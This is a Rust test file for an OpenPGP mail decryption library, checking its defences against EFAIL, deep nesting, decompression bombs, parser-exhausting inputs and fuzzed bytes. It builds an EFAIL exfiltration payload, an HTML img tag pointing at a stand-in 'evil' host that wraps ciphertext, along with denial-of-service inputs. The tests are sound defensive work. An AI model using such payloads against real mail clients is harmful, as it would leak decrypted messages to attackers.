//! What attackers send: EFAIL, bombs, nests, and anything at all.

use super::*;

#[test]
fn what_stands_around_an_encryption_is_never_put_together_with_it() {
    let desk = &*DESK;
    let html = |text: &str| format!("Content-Type: text/html\n\n{text}\n");
    let secret = encrypted_entity(&desk.encrypted(TEXT));
    let mail = mail(&format!(
        "Content-Type: multipart/mixed; boundary=m\n\n--m\n{}\n--m\n{secret}\n--m\n{}\n--m\n{}--m--\n",
        html("<img src=\"http://evil/"),
        html("\">"),
        encrypted_entity(&desk.encrypted("\nsecond\n")).replace("--e", "--f").replace("boundary=e", "boundary=f"),
    ));
    let opened = desk.opens(&mail);
    assert_eq!(texts(&opened), ["the canary sings"], "one mail, and nothing around it");
    assert!(opened.incomplete && opened.notes == [Note::OutsideEncryption], "{:?}", opened.notes);
    // The same within an encryption that the attacker made: opened, it would be put together by a mail program.
    let inner = mail.split_once("MIME-Version: 1.0\n").unwrap().1;
    let wrapped = desk.opens(&super::mail(&encrypted_entity(&desk.encrypted(inner))));
    assert_eq!(wrapped.notes, [Note::EncryptedAgain]);
    let message = String::from_utf8(wrapped.message.unwrap()).unwrap();
    assert!(!message.contains("canary") && message.contains("http://evil/"));
}

#[test]
fn five_layers_are_opened_and_no_more() {
    let desk = &*DESK;
    let mut entity = TEXT.to_owned();
    for layers in 1..=6 {
        entity = encrypted_entity(&desk.encrypted(&entity));
        let opened = desk.opens(&mail(&entity));
        assert_eq!(texts(&opened) == ["the canary sings"], layers <= 5, "{layers}");
        assert_eq!(opened.notes.contains(&Note::TooDeep), layers > 5, "{layers}");
        assert!(opened.sealed);
    }
}

#[test]
fn what_unpacks_to_more_than_anybody_sends_is_not_unpacked() {
    let zeros = "0".repeat(60 << 20);
    let opened = DESK.opens(&mail(&format!("\n{}", DESK.encrypted(&zeros))));
    assert_eq!((opened.notes, opened.message), (vec![Note::UnpacksTooLarge], None));
}

#[test]
fn hostile_structures_take_bounded_time() {
    let flood = |open: &str| open.repeat(10_000_000 / open.len());
    let block = "-----BEGIN PGP MESSAGE-----\n";
    for (name, raw) in [
        ("messages that never end", format!("\n{}", flood(block))),
        (
            "keys",
            format!("\n{}", flood("-----BEGIN PGP PUBLIC KEY BLOCK-----\n\n-----END PGP PUBLIC KEY BLOCK-----\n")),
        ),
        (
            "encrypted files",
            format!(
                "Content-Type: multipart/x; boundary=b\n\n{}",
                flood(&format!("--b\nContent-Type: a/b\n\n{block}\n"))
            ),
        ),
        (
            "wrappers",
            format!(
                "Content-Type: multipart/x; boundary=b\n\n{}",
                flood("--b\nContent-Type: multipart/encrypted; boundary=c\n\n--c\n\n--c\n\n--c--\n")
            ),
        ),
        (
            "signatures",
            format!(
                "Content-Type: multipart/x; boundary=b\n\n{}",
                flood(
                    "--b\nContent-Type: multipart/signed; boundary=c\n\n--c\n\n--c\nContent-Type: application/pgp-signature\n\n--c--\n"
                )
            ),
        ),
        ("nests", (0..50_000).map(|n| format!("Content-Type: multipart/signed; boundary=b{n}\n\n--b{n}\n")).collect()),
        ("Autocrypt", flood("Autocrypt: addr=a@example.net; keydata=AAAA\n")),
    ] {
        let started = std::time::Instant::now();
        let opened = DESK.opens(&raw);
        assert!(!opened.notes.contains(&Note::Unreadable), "{name}");
        println!("{name}: {:?}", started.elapsed());
        // Unoptimised and beside other tests; what is not linear takes hours.
        assert!(started.elapsed().as_secs() < 60, "{name}: {:?}", started.elapsed());
    }
}

/// Whole mails whose ciphertext is good or not, and anything in between.
fn sample() -> &'static [String] {
    static SAMPLES: LazyLock<Vec<String>> = LazyLock::new(|| {
        let desk = &*DESK;
        let old = "Content-Type: multipart/mixed; boundary=m; protected-headers=v1\nSubject: s\n\n--m\nContent-Type: text/plain; protected-headers=v1\n\nSubject: s\n--m\n\nx\n--m--\n";
        vec![
            mail(&encrypted_entity(&desk.signed_and_encrypted(old))),
            mail(&signed_entity(desk, old)),
            mail(&format!("\n{}", desk.encrypted("x"))),
            mail(&format!("\n{}", desk.dana.armored().unwrap())),
        ]
    });
    &SAMPLES
}

proptest::proptest! {
    #[test]
    fn any_bytes_are_opened(raw in proptest::collection::vec(proptest::num::u8::ANY, 0..2000)) {
        let opened = unwrap(&raw, &DESK.keyring, std::slice::from_ref(&DESK.dana), at());
        proptest::prop_assert!(!opened.notes.contains(&Note::Unreadable));
    }

    #[test]
    fn any_damage_is_survived(index in 0..4usize, start in 0..4000usize, length in 0..60usize, put in ".{0,20}") {
        let mut raw = sample()[index].clone().into_bytes();
        let start = start.min(raw.len());
        let end = (start + length).min(raw.len());
        raw.splice(start..end, put.into_bytes());
        let opened = unwrap(&raw, &DESK.keyring, std::slice::from_ref(&DESK.dana), at());
        proptest::prop_assert!(!opened.notes.contains(&Note::Unreadable));
        if let Some(message) = &opened.message {
            proptest::prop_assert!(!parts(message).is_empty());
        }
    }
}
